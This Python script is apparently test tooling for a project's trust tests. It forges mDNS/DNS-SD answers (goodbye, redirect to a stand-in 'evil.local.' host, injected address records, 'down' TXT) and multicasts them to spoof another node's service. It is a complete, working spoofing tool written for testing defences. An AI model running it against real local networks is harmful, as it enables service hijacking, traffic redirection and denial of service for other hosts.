#!/usr/bin/env python3
"""A keyless attacker's mDNS forger (test tooling for netns-tests/trust.rs, standard library only).

Builds DNS-SD answers by hand (no name compression) about another node's instance and multicasts
them to 224.0.0.251:5353 from port 5353 of the given interface address, COUNT times every
INTERVAL seconds. It knows only what any host on the LAN can read from the records (instance
name, host name, SRV port, TXT values); it never holds a mesh key.

Subcommands (each packet is a complete answer: PTR, SRV, TXT, and A when it adds an address):
  goodbye   PTR, SRV and TXT of the instance with TTL 0 (cache-flush bit on SRV and TXT, as the
            real records have it): "the instance is gone".
  redirect  SRV -> TO_HOST:TO_PORT and an A record TO_HOST -> TO_IP: "the instance moved".
  addaddr   an A record HOST -> ADDR: "the node's host has this address (only)".
  down      TXT with h=down: "its target is down".
  mix       redirect, addaddr and down in turn, one per packet.
Every forged record but the shared PTR has the cache-flush bit set.
"""

import argparse
import socket
import struct
import sys
import time

SERVICE_TYPE = "_ambassador._udp.local."
FLUSH = 0x8000
T_A, T_PTR, T_TXT, T_SRV = 1, 12, 16, 33


def name(n):
    out = b""
    for label in n.rstrip(".").split("."):
        raw = label.encode()
        out += bytes([len(raw)]) + raw
    return out + b"\0"


def rr(owner, rtype, rdata, ttl, flush):
    cls = 1 | (FLUSH if flush else 0)
    return name(owner) + struct.pack("!HHIH", rtype, cls, ttl, len(rdata)) + rdata


def ptr(a, ttl):
    return rr(SERVICE_TYPE, T_PTR, name(a.instance), ttl, False)


def srv(a, ttl, host, port):
    return rr(a.instance, T_SRV, struct.pack("!HHH", 0, 0, port) + name(host), ttl, True)


def txt(a, ttl, overrides=None):
    values = dict(kv.split("=", 1) for kv in a.txt)
    values.update(overrides or {})
    data = b"".join(
        bytes([len(s)]) + s for s in (("%s=%s" % kv).encode() for kv in sorted(values.items()))
    )
    return rr(a.instance, T_TXT, data, ttl, True)


def addr(owner, ip, ttl):
    return rr(owner, T_A, socket.inet_aton(ip), ttl, True)


def message(records):
    # id 0, QR + AA, no questions: an unsolicited mDNS response (an announcement).
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def packets(a):
    ttl = a.ttl
    real_srv = lambda: srv(a, ttl, a.host, a.port)
    kinds = {
        "goodbye": lambda: [ptr(a, 0), srv(a, 0, a.host, a.port), txt(a, 0)],
        "redirect": lambda: [
            ptr(a, ttl),
            srv(a, ttl, a.to_host, a.to_port),
            txt(a, ttl),
            addr(a.to_host, a.to_ip, ttl),
        ],
        "addaddr": lambda: [ptr(a, ttl), real_srv(), txt(a, ttl), addr(a.host, a.addr, ttl)],
        "down": lambda: [ptr(a, ttl), real_srv(), txt(a, ttl, {"h": "down"})],
    }
    order = ["redirect", "addaddr", "down"] if a.cmd == "mix" else [a.cmd]
    return [message(kinds[k]()) for k in order]


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("cmd", choices=["goodbye", "redirect", "addaddr", "down", "mix"])
    p.add_argument("--ip", required=True, help="this host's LAN address (sent from it)")
    p.add_argument("--instance", required=True, help="the instance's full name")
    p.add_argument("--host", required=True, help="the instance's host name (SRV target)")
    p.add_argument("--port", type=int, required=True, help="the instance's real SRV port")
    p.add_argument("--txt", action="append", default=[], help="a real TXT value k=v")
    p.add_argument("--to-host", default="evil.local.", help="redirect: the new SRV target")
    p.add_argument("--to-ip", help="redirect: the new target's address")
    p.add_argument("--to-port", type=int, help="redirect: the new SRV port")
    p.add_argument("--addr", help="addaddr: the address added to the host name")
    p.add_argument("--ttl", type=int, default=120)
    p.add_argument("--count", type=int, default=12)
    p.add_argument("--interval", type=float, default=0.1)
    a = p.parse_args()
    if a.cmd in ("redirect", "mix") and (a.to_ip is None or a.to_port is None):
        p.error("redirect needs --to-ip and --to-port")
    if a.cmd in ("addaddr", "mix") and a.addr is None:
        p.error("addaddr needs --addr")

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("0.0.0.0", 5353))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(a.ip))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    msgs = packets(a)
    for i in range(a.count):
        s.sendto(msgs[i % len(msgs)], ("224.0.0.251", 5353))
        print("sent %s %d/%d" % (a.cmd, i + 1, a.count), flush=True)
        if i + 1 < a.count:
            time.sleep(a.interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
